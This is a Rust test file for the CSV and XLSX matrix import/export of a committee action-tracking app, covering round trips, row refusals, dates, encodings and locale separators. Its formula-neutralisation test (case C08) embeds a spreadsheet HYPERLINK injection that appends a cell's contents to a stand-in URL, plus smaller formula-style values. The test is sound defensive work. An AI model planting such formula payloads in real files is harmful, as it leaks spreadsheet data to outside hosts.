//! Follow-up matrix import (issue 4) on the demo committee, through a real node: round trips
//! (XLSX and CSV), refusals that write nothing, and cases C03, C07, C08 and C09; plus the
//! exported XLSX read by an independent reader (Python's openpyxl).

use jiff::civil::{Date, date};
use lajna_demo as demo;
use lajna_domain::records::{Action, Indicator};
use lajna_domain::{ActionStatus, Actor, Command, Lang, LocalizedText, PartyCode, Progress, RecordKind};
use lajna_node::Node;
use lajna_node::import::{ImportOutcome, Importer};
use lajna_outputs::import::{Column, MatrixImport, Outcome, read};
use lajna_outputs::matrix::{MatrixRow, headers, rows, to_csv, to_xlsx};

async fn demo_node() -> (tempfile::TempDir, Node) {
    let dir = tempfile::tempdir().unwrap();
    let node = demo::build(&dir.path().join("data")).await.unwrap();
    (dir, node)
}

async fn matrix_rows(node: &Node, lang: Lang) -> Vec<MatrixRow> {
    let today = node.today();
    node.with_state(|s| rows(s, lang, today)).await
}

async fn snapshot(node: &Node) -> (i64, String) {
    (node.store().event_count().await.unwrap(), node.store().state_hash().await.unwrap())
}

async fn preview(node: &Node, m: &MatrixImport) -> ImportOutcome {
    node.import_matrix(&Importer::Operator, m, false).await.unwrap()
}

/// Every row of the plan, as (sheet row, outcome code).
fn outcomes(o: &ImportOutcome) -> Vec<(u32, &'static str)> {
    o.plan
        .rows
        .iter()
        .map(|r| {
            let code = match r.outcome {
                Outcome::Create(_) => "create",
                Outcome::Update { .. } => "update",
                Outcome::Unchanged { .. } => "unchanged",
                Outcome::Refused(_) => "refused",
            };
            (r.row, code)
        })
        .collect()
}

fn refusal_keys(o: &ImportOutcome, row: u32) -> Vec<&'static str> {
    match &o.plan.rows.iter().find(|r| r.row == row).unwrap().outcome {
        Outcome::Refused(reasons) => reasons.iter().map(|r| r.key).collect(),
        other => panic!("row {row} is not refused: {other:?}"),
    }
}

/// The cells of a row as the CSV of `lang` writes them (text).
fn cells(r: &MatrixRow, lang: Lang) -> Vec<String> {
    lajna_outputs::matrix::cells(r, lang).to_vec()
}

fn csv_of(lang: Lang, lines: &[Vec<String>]) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(headers(lang)).unwrap();
    for l in lines {
        w.write_record(l).unwrap();
    }
    w.into_inner().unwrap()
}

async fn plan_action(node: &Node, title: LocalizedText, unit: LocalizedText, indicator: Option<Indicator>) -> String {
    let (roadmap, area) = node
        .with_state(|s| {
            let roadmap = s.all::<lajna_domain::records::Roadmap>(RecordKind::Roadmap)[0].0.clone();
            let mut areas = s.all::<lajna_domain::records::Area>(RecordKind::Area);
            areas.sort_by_key(|(_, a)| a.ordinal);
            (roadmap, areas[0].0.clone())
        })
        .await;
    let action = Action {
        roadmap,
        area,
        title,
        owner: PartyCode::parse("MAR").unwrap(),
        unit,
        lead: None,
        start: date(2025, 3, 1),
        due: date(2025, 12, 31),
        status: ActionStatus::InProgress,
        progress: Progress::new(40).unwrap(),
        weight: None,
        indicator,
        decision: None,
        reason: None,
        completed: None,
        illustrative: false,
    };
    let actor = Actor { party: PartyCode::parse("MAR").unwrap(), member: None };
    node.execute(&actor, &Command::PlanAction(action)).await.unwrap()[0].to_hex()
}

#[tokio::test]
async fn exported_xlsx_and_csv_reimport_with_every_row_unchanged() {
    let (_dir, node) = demo_node().await;
    let before = snapshot(&node).await;
    for lang in Lang::ALL {
        let rows = matrix_rows(&node, lang).await;
        assert!(rows.len() >= 10, "the demo has a roadmap: {}", rows.len());
        for (format, bytes) in [("xlsx", to_xlsx(&rows, lang).unwrap()), ("csv", to_csv(&rows, lang).unwrap())] {
            let m = read(&bytes).unwrap();
            assert_eq!(m.lang, lang, "{format}");
            assert_eq!(m.columns, Column::ALL.to_vec(), "{format} {lang:?}");
            let o = node.import_matrix(&Importer::Operator, &m, true).await.unwrap();
            let expected: Vec<(u32, &str)> = (0..rows.len()).map(|i| (i as u32 + 2, "unchanged")).collect();
            assert_eq!(outcomes(&o), expected, "{format} {lang:?}");
            assert!(o.written.is_empty());
        }
    }
    assert_eq!(snapshot(&node).await, before, "a no-change import writes nothing");
}

#[tokio::test]
async fn a_bad_row_of_each_kind_is_refused_with_its_row_and_reason_and_nothing_is_written() {
    let (_dir, node) = demo_node().await;
    let rows = matrix_rows(&node, Lang::Fr).await;
    let good = cells(&rows[0], Lang::Fr);
    let mut bad_date = cells(&rows[1], Lang::Fr);
    bad_date[7] = "31/02/2025".into();
    let mut unknown_area = cells(&rows[2], Lang::Fr);
    unknown_area[1] = "Coopération spatiale".into();
    let mut progress_140 = cells(&rows[3], Lang::Fr);
    progress_140[9] = "140".into();
    let duplicate = cells(&rows[0], Lang::Fr);
    let mut empty_title = cells(&rows[4], Lang::Fr);
    empty_title[0] = String::new();
    empty_title[2] = String::new();
    empty_title[3] = "  ".into();
    // A valid change too: it is not written either, because the file has refused rows.
    let mut update = cells(&rows[5], Lang::Fr);
    update[9] = if rows[5].progress == 50 { "55".into() } else { "50".into() };
    update[8] = "in_progress".into();
    let mut unknown_status = cells(&rows[6], Lang::Fr);
    unknown_status[8] = "en attente".into(); // a word of no language ("En cours" is in_progress)
    let mut unknown_owner = cells(&rows[7], Lang::Fr);
    unknown_owner[4] = "FRA".into();
    let mut already_there = cells(&rows[8], Lang::Fr);
    already_there[0] = String::new();
    let bytes = csv_of(
        Lang::Fr,
        &[
            good,
            bad_date,
            unknown_area,
            progress_140,
            duplicate,
            empty_title,
            update,
            unknown_status,
            unknown_owner,
            already_there,
        ],
    );
    let m = read(&bytes).unwrap();
    let before = snapshot(&node).await;
    let o = node.import_matrix(&Importer::Operator, &m, true).await.unwrap();
    assert_eq!(
        outcomes(&o),
        vec![
            (2, "unchanged"),
            (3, "refused"),
            (4, "refused"),
            (5, "refused"),
            (6, "refused"),
            (7, "refused"),
            (8, "update"),
            (9, "refused"),
            (10, "refused"),
            (11, "refused")
        ]
    );
    assert_eq!(refusal_keys(&o, 9), vec!["import-unknown-status"]);
    // The refusal lists the words of the reader's language.
    let Outcome::Refused(r) = &o.plan.rows[7].outcome else { unreachable!() };
    let said = lajna_outputs::import_report::refusal_message(lajna_i18n::Catalog::shared(), Lang::Fr, &r[0]);
    assert!(
        said.contains("en attente") && said.contains("Prévue, En cours, Réalisée, Retardée, Bloquée, Annulée"),
        "{said}"
    );
    assert_eq!(refusal_keys(&o, 10), vec!["import-unknown-owner"]);
    assert_eq!(refusal_keys(&o, 11), vec!["import-exists"], "a row without id for a recorded action");
    assert_eq!(refusal_keys(&o, 3), vec!["import-bad-date"]);
    assert_eq!(refusal_keys(&o, 4), vec!["import-unknown-area"]);
    assert_eq!(refusal_keys(&o, 5), vec!["import-bad-progress"]);
    assert_eq!(refusal_keys(&o, 6), vec!["import-duplicate-row"]);
    assert_eq!(refusal_keys(&o, 7), vec!["import-empty-title"]);
    let Outcome::Refused(r) = &o.plan.rows[1].outcome else { unreachable!() };
    assert_eq!((r[0].field, r[0].detail.as_str()), (Some("due"), "31/02/2025"));
    let Outcome::Refused(r) = &o.plan.rows[4].outcome else { unreachable!() };
    assert_eq!(r[0].detail, "2", "the duplicate names the first row");
    let counts = o.plan.counts();
    assert_eq!((counts.refused, counts.updated, counts.unchanged, counts.created), (8, 1, 1, 0));
    assert!(o.written.is_empty());
    assert_eq!(snapshot(&node).await, before, "a file with a refused row writes nothing");
}

#[tokio::test]
async fn changes_are_written_all_at_once_and_then_read_back_unchanged() {
    let (_dir, node) = demo_node().await;
    let rows = matrix_rows(&node, Lang::Fr).await;
    // Rows picked by property (ids, hence the order of equal due dates, are random per run).
    let p = rows.iter().position(|r| r.status != "in_progress" && r.status != "done").unwrap();
    let (u, n) = ((p + 1) % rows.len(), (p + 2) % rows.len());
    let mut update = cells(&rows[u], Lang::Fr);
    update[3] = format!("{} (révisé)", rows[u].title_fr);
    let mut progress_only = cells(&rows[p], Lang::Fr);
    progress_only[8] = "in_progress".into();
    progress_only[9] = "٧٥".into(); // C03: Arabic-Indic digits are a number
    let mut new = cells(&rows[n], Lang::Fr);
    new[0] = String::new();
    new[2] = "تدريب 12 ضابطاً — phase 2".into();
    new[3] = "Former 12 officiers — phase 2".into();
    new[8] = "in_progress".into(); // a new delayed, blocked or cancelled action would need a reason
    let (count, _) = snapshot(&node).await;
    let m = read(&csv_of(Lang::Fr, &[update, progress_only, new])).unwrap();
    let o = node.import_matrix(&Importer::Operator, &m, true).await.unwrap();
    assert_eq!(outcomes(&o), vec![(2, "update"), (3, "update"), (4, "create")]);
    let Outcome::Update { changed, commands, .. } = &o.plan.rows[1].outcome else { unreachable!() };
    assert_eq!(changed, &vec!["status", "progress"]);
    assert!(matches!(commands.as_slice(), [Command::ReportProgress { .. }]), "{commands:?}");
    assert_eq!(o.written.len(), 3);
    assert_eq!(node.store().event_count().await.unwrap(), count + 3);
    let a: Action = node.with_state(|s| s.get(RecordKind::Action, &rows[p].id).unwrap()).await;
    assert_eq!((a.status, a.progress.percent()), (ActionStatus::InProgress, 75));
    let created: Action = node.with_state(|s| s.get(RecordKind::Action, &o.written[2].to_hex()).unwrap()).await;
    assert_eq!(created.title.fr.as_deref(), Some("Former 12 officiers — phase 2"));
    assert_eq!(created.area, node.with_state(|s| s.get::<Action>(RecordKind::Action, &rows[n].id).unwrap().area).await);
    // The record as now exported reads back unchanged.
    let after = matrix_rows(&node, Lang::Fr).await;
    let again = preview(&node, &read(&to_csv(&after, Lang::Fr).unwrap()).unwrap()).await;
    assert!(outcomes(&again).iter().all(|(_, o)| *o == "unchanged"), "{:?}", outcomes(&again));
}

/// Case C07: the CSV carries a BOM; a file without it is accepted the same, and the first
/// header never keeps U+FEFF; an Arabic title with an em dash round-trips.
#[tokio::test]
async fn c07_csv_with_or_without_bom() {
    let (_dir, node) = demo_node().await;
    let arabic = "تدريب 12 ضابطاً — phase 2";
    plan_action(
        &node,
        LocalizedText::tri(arabic, "Former 12 officiers — phase 2", ""),
        LocalizedText::tri("", "École", ""),
        None,
    )
    .await;
    let bytes = to_csv(&matrix_rows(&node, Lang::Ar).await, Lang::Ar).unwrap();
    assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF]);
    let with = read(&bytes).unwrap();
    let without = read(&bytes[3..]).unwrap();
    assert_eq!(with, without);
    assert_eq!(with.columns[0], Column::Id, "the first header is recognised, BOM or not");
    assert!(with.ignored.is_empty(), "{:?}", with.ignored);
    assert!(with.rows.iter().any(|r| r.values.as_ref().unwrap().title_ar.as_deref() == Some(arabic)));
    for m in [with, without] {
        assert!(outcomes(&preview(&node, &m).await).iter().all(|(_, o)| *o == "unchanged"));
    }
    // A hand-made file: a BOM-less header whose first cell is the id column.
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(!text.starts_with('\u{FEFF}') && text.starts_with("المعرف;"), "{}", &text[..20]);
}

/// Case C08: formula-looking text is neutralised on export and restored on import, in CSV
/// and XLSX; numbers stay numbers.
#[tokio::test]
async fn c08_reimport_restores_formula_looking_text() {
    let (_dir, node) = demo_node().await;
    let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1;\"Détails\")";
    let id = plan_action(
        &node,
        LocalizedText::tri("", evil, ""),
        LocalizedText::tri("", "@SUM(1+1)", ""),
        Some(Indicator {
            unit: LocalizedText::tri("", "-20 places de formation", ""),
            baseline: -20,
            target: 20,
            current: 0,
        }),
    )
    .await;
    let rows = matrix_rows(&node, Lang::Fr).await;
    let csv = to_csv(&rows, Lang::Fr).unwrap();
    assert!(String::from_utf8_lossy(&csv).contains("'=HYPERLINK("), "neutralised in the file");
    for bytes in [csv, to_xlsx(&rows, Lang::Fr).unwrap()] {
        let m = read(&bytes).unwrap();
        let row = m.rows.iter().find(|r| r.values.as_ref().unwrap().id.as_deref() == Some(id.as_str())).unwrap();
        let v = row.values.as_ref().unwrap();
        assert_eq!(v.title_fr.as_deref(), Some(evil));
        assert_eq!(v.unit.as_deref(), Some("@SUM(1+1)"));
        let i = v.indicator.clone().unwrap().unwrap();
        assert_eq!((i.unit.as_str(), i.baseline, i.target, i.current), ("-20 places de formation", -20, 20, 0));
        assert!(outcomes(&preview(&node, &m).await).iter().all(|(_, o)| *o == "unchanged"));
    }
}

/// Case C09: the "Échéance" column of a French matrix as a date cell, day-first text, a
/// date-time cell, a plain serial number — never 46022 as a number or a year.
#[tokio::test]
async fn c09_dates_from_cells_serials_and_day_first_text() {
    use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
    let (_dir, node) = demo_node().await;
    let h = headers(Lang::Fr);
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    let cols = [1usize, 3, 4, 5, 6, 7, 8, 9];
    for (c, i) in cols.iter().enumerate() {
        sheet.write_string(0, c as u16, h[*i]).unwrap();
    }
    let day = Format::new().set_num_format("dd/mm/yyyy");
    let stamp = Format::new().set_num_format("dd/mm/yyyy hh:mm");
    for r in 1..=5u32 {
        let row = [
            "Formation du personnel militaire".to_string(),
            format!("Action C09 n° {r}"),
            "MAR".into(),
            "École".into(),
            "01/03/2025".into(),
        ];
        for (c, v) in row.iter().enumerate() {
            sheet.write_string(r, c as u16, v).unwrap();
        }
        sheet.write_string(r, 6, "planned").unwrap();
        sheet.write_number(r, 7, 0).unwrap();
    }
    sheet.write_datetime_with_format(1, 5, ExcelDateTime::from_ymd(2025, 12, 31).unwrap(), &day).unwrap();
    sheet.write_string(2, 5, "31/12/2025").unwrap();
    let at = ExcelDateTime::from_ymd(2025, 11, 18).unwrap().and_hms(10, 30, 0).unwrap();
    sheet.write_datetime_with_format(3, 5, at, &stamp).unwrap();
    sheet.write_string(4, 5, "03/04/2025").unwrap();
    sheet.write_number(5, 5, 46022).unwrap();
    let bytes = book.save_to_buffer().unwrap();
    let m = read(&bytes).unwrap();
    assert_eq!(m.lang, Lang::Fr);
    let due: Vec<Option<Date>> = m.rows.iter().map(|r| r.values.as_ref().unwrap().due).collect();
    assert_eq!(
        due,
        vec![
            Some(date(2025, 12, 31)),
            Some(date(2025, 12, 31)),
            Some(date(2025, 11, 18)),
            Some(date(2025, 4, 3)),
            Some(date(2025, 12, 31))
        ]
    );
    assert_eq!(m.rows[0].values.as_ref().unwrap().start, Some(date(2025, 3, 1)));
    let o = preview(&node, &m).await;
    assert_eq!(outcomes(&o), (2..=6).map(|r| (r, "create")).collect::<Vec<_>>());
    let Outcome::Create(a) = &o.plan.rows[3].outcome else { unreachable!() };
    assert_eq!((a.start, a.due), (date(2025, 3, 1), date(2025, 4, 3)));
}

/// Runs one of this crate's Python readers (`tests/NAME`) on `path` with `args`; its JSON.
fn python(script: &str, path: &std::path::Path, args: &[&str]) -> serde_json::Value {
    let script = format!("{}/tests/{script}", env!("CARGO_MANIFEST_DIR"));
    let out = std::process::Command::new("/usr/bin/python3").arg(script).arg(path).args(args).output().unwrap();
    assert!(out.status.success(), "python3: {}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Two actions that carry the locale's hard cases: a French title with a comma and an indicator
/// at 37.5 % (0 → 8, now 3), and a delayed action whose reason is stated in Arabic and French.
/// Returns their ids.
async fn locale_actions(node: &Node) -> (String, String) {
    let indicator =
        Indicator { unit: LocalizedText::tri("ضباط", "officiers", ""), baseline: 0, target: 8, current: 3 };
    let formation = plan_action(
        node,
        LocalizedText::tri("تدريب الضباط على الإسعافات الأولية — المرحلة 2", "Formation, phase 2", ""),
        LocalizedText::tri("", "École", ""),
        Some(indicator),
    )
    .await;
    let delayed =
        plan_action(node, LocalizedText::tri("", "Livrer les ambulances", ""), LocalizedText::tri("", "DSS", ""), None)
            .await;
    let actor = Actor { party: PartyCode::parse("MAR").unwrap(), member: None };
    let report = Command::ReportProgress {
        completed: None,
        action: delayed.clone(),
        status: Some(ActionStatus::Delayed),
        progress: None,
        reason: Some(LocalizedText::tri("انتظار المعدات من المورد", "En attente du matériel", "")),
    };
    node.execute(&actor, &report).await.unwrap();
    (formation, delayed)
}

/// The exported XLSX read by openpyxl (an independent reader) holds the values of
/// `matrix::rows` in each language: status words of that language (and as the drop-down list),
/// start and due as real date cells, numbers as numbers (the achievement 37.5 with one decimal),
/// no formula, a frozen header row, a right-to-left sheet in Arabic, Arabic text intact.
#[tokio::test]
async fn openpyxl_reads_the_same_values_as_matrix_rows_with_status_words_and_date_cells() {
    let (dir, node) = demo_node().await;
    plan_action(&node, LocalizedText::tri("", "=1+1", ""), LocalizedText::tri("", "+33 unité", ""), None).await;
    let (formation, delayed) = locale_actions(&node).await;
    for (lang, in_progress, day, list) in [
        (Lang::Fr, "En cours", "dd/mm/yyyy", "\"Prévue,En cours,Réalisée,Retardée,Bloquée,Annulée\""),
        (Lang::Ar, "قيد الإنجاز", "dd/mm/yyyy", "\"مبرمج,قيد الإنجاز,منجز,متأخر,متوقف,ملغى\""),
        (Lang::En, "In progress", "yyyy-mm-dd", "\"Planned,In progress,Done,Delayed,Blocked,Cancelled\""),
    ] {
        let rows = matrix_rows(&node, lang).await;
        let path = dir.path().join(format!("matrix-{}.xlsx", lang.code()));
        std::fs::write(&path, to_xlsx(&rows, lang).unwrap()).unwrap();
        let doc = python("read_matrix.py", &path, &[]);
        assert_eq!(doc["formulas"], 0);
        assert_eq!(doc["frozen"], "A2");
        assert_eq!(doc["rtl"], lang == Lang::Ar);
        assert_eq!(doc["lists"], serde_json::json!([list]), "{lang:?}");
        let got: Vec<Vec<String>> = serde_json::from_value(doc["rows"].clone()).unwrap();
        let types: Vec<Vec<String>> = serde_json::from_value(doc["types"].clone()).unwrap();
        let formats: Vec<Vec<String>> = serde_json::from_value(doc["formats"].clone()).unwrap();
        let mut expected = vec![headers(lang).iter().map(|h| h.to_string()).collect::<Vec<_>>()];
        // The CSV's cells, but the achievement as openpyxl prints a number (37.5).
        expected.extend(rows.iter().map(|r| {
            let mut c = cells(r, lang);
            c[17] = c[17].replace(',', ".");
            c
        }));
        assert_eq!(got.len(), expected.len());
        for (g, e) in got.iter().zip(&expected) {
            assert_eq!(g, e);
        }
        let at = |id: &str| rows.iter().position(|r| r.id == id).unwrap() + 1;
        let (f, d) = (at(&formation), at(&delayed));
        assert_eq!(got[f][3], "Formation, phase 2");
        assert_eq!(got[f][2], "تدريب الضباط على الإسعافات الأولية — المرحلة 2");
        assert_eq!((got[f][8].as_str(), got[f][9].as_str(), got[f][17].as_str()), (in_progress, "40", "37.5"));
        assert_eq!((got[f][6].as_str(), got[f][7].as_str()), ("2025-03-01", "2025-12-31"));
        let reason = ["انتظار المعدات من المورد", "En attente du matériel", "En attente du matériel"];
        assert_eq!(got[d][16], reason[Lang::ALL.iter().position(|l| *l == lang).unwrap()], "{lang:?}");
        // Real cells: dates are dates in the locale's format, numbers are numbers.
        assert_eq!(types[f][6..=9], ["d", "d", "s", "n"], "{lang:?}");
        assert_eq!(types[f][11..=13], ["n", "n", "n"]);
        assert_eq!((types[f][17].as_str(), formats[f][17].as_str()), ("n", "0.0"));
        assert_eq!((formats[f][6].as_str(), formats[f][7].as_str()), (day, day));
        assert!(types.iter().skip(1).all(|t| t[6] == "d" && t[7] == "d"), "every start and due is a date cell");
    }
}

/// Case C18, read by Python's csv module as French and Arabic spreadsheets read it (`;`): BOM,
/// CRLF, every row its 18 fields, the title with a comma in one field, the status word of the
/// language, `37,5` with a decimal comma, Arabic text intact; English keeps `,` and `37.5`.
/// Each export imports back with every row unchanged (the import sniffs the separator).
#[tokio::test]
async fn c18_the_csv_of_each_language_reads_in_its_locale_and_imports_back_unchanged() {
    let (dir, node) = demo_node().await;
    let (formation, delayed) = locale_actions(&node).await;
    let before = snapshot(&node).await;
    for (lang, separator, in_progress, delayed_word, achieved) in [
        (Lang::Fr, ";", "En cours", "Retardée", "37,5"),
        (Lang::Ar, ";", "قيد الإنجاز", "متأخر", "37,5"),
        (Lang::En, ",", "In progress", "Delayed", "37.5"),
    ] {
        let rows = matrix_rows(&node, lang).await;
        let bytes = to_csv(&rows, lang).unwrap();
        let path = dir.path().join(format!("matrix-{}.csv", lang.code()));
        std::fs::write(&path, &bytes).unwrap();
        let doc = python("read_csv.py", &path, &[separator]);
        assert_eq!((doc["bom"].as_bool(), doc["crlf"].as_bool()), (Some(true), Some(true)), "{lang:?}");
        let got: Vec<Vec<String>> = serde_json::from_value(doc["rows"].clone()).unwrap();
        assert_eq!(got.len(), rows.len() + 1);
        assert_eq!(got[0], headers(lang).to_vec(), "{lang:?}: headers in the language, one column each");
        assert!(got.iter().all(|r| r.len() == 21), "{lang:?}: every row has its 21 columns");
        let at = |id: &str| rows.iter().position(|r| r.id == id).unwrap() + 1;
        let (f, d) = (&got[at(&formation)], &got[at(&delayed)]);
        assert_eq!((f[3].as_str(), f[8].as_str(), f[17].as_str()), ("Formation, phase 2", in_progress, achieved));
        assert_eq!(f[2], "تدريب الضباط على الإسعافات الأولية — المرحلة 2");
        assert_eq!((f[6].as_str(), f[7].as_str()), ("2025-03-01", "2025-12-31"));
        assert_eq!(d[8], delayed_word);
        if lang == Lang::Ar {
            assert_eq!((d[16].as_str(), f[10].as_str()), ("انتظار المعدات من المورد", "ضباط"));
        }
        // Import: the same file, and the same rows written with the other separator.
        let m = read(&bytes).unwrap();
        assert_eq!((m.lang, m.columns.clone()), (lang, Column::ALL.to_vec()));
        let o = preview(&node, &m).await;
        assert!(outcomes(&o).iter().all(|(_, c)| *c == "unchanged"), "{lang:?}: {:?}", outcomes(&o));
        assert_eq!(o.plan.counts().unchanged, rows.len());
        let mut other =
            csv::WriterBuilder::new().delimiter(if separator == ";" { b',' } else { b';' }).from_writer(vec![]);
        other.write_record(got[0].iter()).unwrap();
        for r in &got[1..] {
            other.write_record(r).unwrap();
        }
        let o = preview(&node, &read(&other.into_inner().unwrap()).unwrap()).await;
        assert!(outcomes(&o).iter().all(|(_, c)| *c == "unchanged"), "{lang:?} other separator: {:?}", outcomes(&o));
    }
    assert_eq!(snapshot(&node).await, before, "previews write nothing");
}

/// Issue 17 item 5: the status column is read in any of the three languages, the code too,
/// without regard to case, accents or spacing — whatever the matrix language.
#[tokio::test]
async fn status_words_of_any_language_and_the_codes_read_back_as_the_same_status() {
    let (_dir, node) = demo_node().await;
    let rows = matrix_rows(&node, Lang::Fr).await;
    let catalog = lajna_i18n::Catalog::shared();
    let mut lines: Vec<Vec<String>> = rows.iter().map(|r| cells(r, Lang::Fr)).collect();
    for (i, line) in lines.iter_mut().enumerate() {
        let status = ActionStatus::parse(rows[i].status).unwrap();
        line[8] = match i % 5 {
            0 => catalog.word(Lang::Ar, status),
            1 => catalog.word(Lang::En, status).to_uppercase(),
            2 => status.code().to_string(),
            3 => format!("  {}  ", catalog.word(Lang::Fr, status).to_lowercase()),
            _ => lajna_i18n::words::fold(&catalog.word(Lang::Fr, status)),
        };
    }
    let done = rows.iter().position(|r| r.status == "done").unwrap();
    lines[done][8] = "REALISEE".into();
    let o = preview(&node, &read(&csv_of(Lang::Fr, &lines)).unwrap()).await;
    assert!(outcomes(&o).iter().all(|(_, c)| *c == "unchanged"), "{:?}", outcomes(&o));
    // "En cours" in an English matrix is in_progress too.
    let p = rows.iter().position(|r| r.status == "planned").unwrap();
    let mut english: Vec<Vec<String>> = matrix_rows(&node, Lang::En).await.iter().map(|r| cells(r, Lang::En)).collect();
    english[p][8] = "En cours".into();
    let o = preview(&node, &read(&csv_of(Lang::En, &english)).unwrap()).await;
    let Outcome::Update { changed, commands, .. } = &o.plan.rows[p].outcome else { panic!("{:?}", o.plan.rows[p]) };
    assert_eq!(changed, &vec!["status"]);
    assert!(matches!(commands.as_slice(), [Command::ReportProgress { status: Some(ActionStatus::InProgress), .. }]));
}

/// An action delayed, blocked or cancelled states its reason (issue 13 item 5): the reason
/// column is exported and imported; a row entering such a status without it, a new cancelled
/// action without it, or a row emptying it is refused naming the column, and nothing is written.
#[tokio::test]
async fn the_reason_column_carries_the_reason_and_a_missing_reason_refuses_the_row() {
    let (_dir, node) = demo_node().await;
    let (_, delayed) = locale_actions(&node).await;
    let rows = matrix_rows(&node, Lang::Fr).await;
    let p = rows.iter().position(|r| r.status == "in_progress").unwrap();
    let d = rows.iter().position(|r| r.id == delayed).unwrap();
    let n = rows.iter().position(|r| r.status == "planned").unwrap();
    let base: Vec<Vec<String>> = rows.iter().map(|r| cells(r, Lang::Fr)).collect();
    assert_eq!((base[d][8].as_str(), base[d][16].as_str()), ("Retardée", "En attente du matériel"));
    let before = snapshot(&node).await;

    // Blocked without a reason; a delayed action's reason emptied; a new cancelled action without one.
    let mut lines = base.clone();
    lines[p][8] = "Bloquée".into();
    lines[d][16] = String::new();
    let mut new = base[n].clone();
    new[0] = String::new();
    new[3] = "Action annulée sans motif".into();
    new[2] = String::new();
    new[8] = "Annulée".into();
    lines.push(new);
    let o = node.import_matrix(&Importer::Operator, &read(&csv_of(Lang::Fr, &lines)).unwrap(), true).await.unwrap();
    let last = lines.len() as u32 + 1;
    for row in [p as u32 + 2, d as u32 + 2, last] {
        assert_eq!(refusal_keys(&o, row), vec!["import-reason-required"], "row {row}");
    }
    assert_eq!(o.plan.counts().refused, 3);
    let Outcome::Refused(r) = &o.plan.rows[p].outcome else { unreachable!() };
    assert_eq!((r[0].field, r[0].detail.as_str()), (Some("reason"), "blocked"));
    let catalog = lajna_i18n::Catalog::shared();
    let said =
        lajna_outputs::import_report::refusal_message(catalog, Lang::Fr, &r[0]).replace(['\u{2068}', '\u{2069}'], "");
    assert_eq!(said, "Une action « Bloquée » doit en indiquer le motif : remplissez la colonne « Motif ».");
    let said =
        lajna_outputs::import_report::refusal_message(catalog, Lang::Ar, &r[0]).replace(['\u{2068}', '\u{2069}'], "");
    assert!(said.contains("«متوقف»") && said.contains("«السبب»"), "{said}");
    assert!(o.written.is_empty());
    assert_eq!(snapshot(&node).await, before, "nothing written");

    // A file without the reason column cannot block an action either.
    let without: Vec<Vec<String>> = lines[..rows.len()].iter().map(|l| l[..16].to_vec()).collect();
    let mut w = csv::WriterBuilder::new().delimiter(b';').from_writer(vec![]);
    w.write_record(&headers(Lang::Fr)[..16]).unwrap();
    for l in &without {
        w.write_record(l).unwrap();
    }
    let o = preview(&node, &read(&w.into_inner().unwrap()).unwrap()).await;
    assert_eq!(refusal_keys(&o, p as u32 + 2), vec!["import-reason-required"]);

    // With its reason, the row is a progress report carrying it; written, then read back unchanged.
    let mut lines = base.clone();
    lines[p][8] = "Bloquée".into();
    lines[p][16] = "En attente de l’accord du commandement".into();
    let o = node.import_matrix(&Importer::Operator, &read(&csv_of(Lang::Fr, &lines)).unwrap(), true).await.unwrap();
    let Outcome::Update { changed, commands, .. } = &o.plan.rows[p].outcome else { panic!("{:?}", o.plan.rows[p]) };
    assert_eq!(changed, &vec!["status", "reason"]);
    assert!(matches!(commands.as_slice(), [Command::ReportProgress { reason: Some(_), .. }]), "{commands:?}");
    assert_eq!(o.written.len(), 1);
    let a: Action = node.with_state(|s| s.get(RecordKind::Action, &rows[p].id).unwrap()).await;
    assert_eq!(a.status, ActionStatus::Blocked);
    assert_eq!(a.reason.unwrap().fr.as_deref(), Some("En attente de l’accord du commandement"));
    // In Arabic, the reason column writes the Arabic text and keeps the French one.
    let ar = matrix_rows(&node, Lang::Ar).await;
    let mut lines: Vec<Vec<String>> = ar.iter().map(|r| cells(r, Lang::Ar)).collect();
    let i = ar.iter().position(|r| r.id == rows[p].id).unwrap();
    assert_eq!(lines[i][16], "En attente de l’accord du commandement", "no Arabic yet: the French text is shown");
    lines[i][16] = "في انتظار موافقة القيادة".into();
    let o = node.import_matrix(&Importer::Operator, &read(&csv_of(Lang::Ar, &lines)).unwrap(), true).await.unwrap();
    assert_eq!(outcomes(&o)[i], (i as u32 + 2, "update"));
    let a: Action = node.with_state(|s| s.get(RecordKind::Action, &rows[p].id).unwrap()).await;
    let reason = a.reason.unwrap();
    assert_eq!(
        (reason.ar.as_deref(), reason.fr.as_deref()),
        (Some("في انتظار موافقة القيادة"), Some("En attente de l’accord du commandement"))
    );
    for lang in Lang::ALL {
        let again = preview(&node, &read(&to_csv(&matrix_rows(&node, lang).await, lang).unwrap()).unwrap()).await;
        assert!(outcomes(&again).iter().all(|(_, c)| *c == "unchanged"), "{lang:?}: {:?}", outcomes(&again));
    }
}

/// Case C21: a CSV saved as Windows-1256 (`اللجنة` = `C7 E1 E1 CC E4 C9`) is refused naming its
/// first row that is not UTF-8, with the hint to save as "CSV UTF-8" in the reader's language;
/// nothing is decoded (no U+FFFD can reach the record).
#[test]
fn c21_a_windows_1256_csv_is_refused_naming_the_row_and_the_fix() {
    let mut bytes = b"Identifiant;Domaine;Action (fran\xC3\xA7ais);Statut\r\n;Formation;Titre;planned\r\n".to_vec();
    bytes.extend_from_slice(b";Formation;\xC7\xE1\xE1\xCC\xE4\xC9;planned\r\n");
    let err = read(&bytes).unwrap_err();
    assert_eq!(err, lajna_outputs::import::ImportError::NotUtf8 { row: 3 });
    let catalog = lajna_i18n::Catalog::shared();
    let plain =
        |lang| lajna_outputs::import_report::error_message(catalog, lang, &err).replace(['\u{2068}', '\u{2069}'], "");
    assert!(
        plain(Lang::Fr).starts_with("Ligne 3 : le fichier CSV n’est pas en UTF-8")
            && plain(Lang::Fr).contains("« CSV UTF-8 »")
    );
    assert!(plain(Lang::Ar).starts_with("السطر 3:"), "{}", plain(Lang::Ar));
    assert!(plain(Lang::En).starts_with("Row 3:"), "{}", plain(Lang::En));
}

// ---- Bounded reading (issue 12): crafted files are refused before calamine allocates. ----

mod bounded {
    use std::io::{Read, Write};

    use jiff::civil::date;
    use lajna_domain::Lang;
    use lajna_outputs::import::{ImportError, ImportLimits, read, read_with};
    use lajna_outputs::matrix::{MatrixRow, to_csv, to_xlsx};
    use zip::write::SimpleFileOptions;

    const MIB: u64 = 1 << 20;

    fn matrix() -> Vec<MatrixRow> {
        (1..=3)
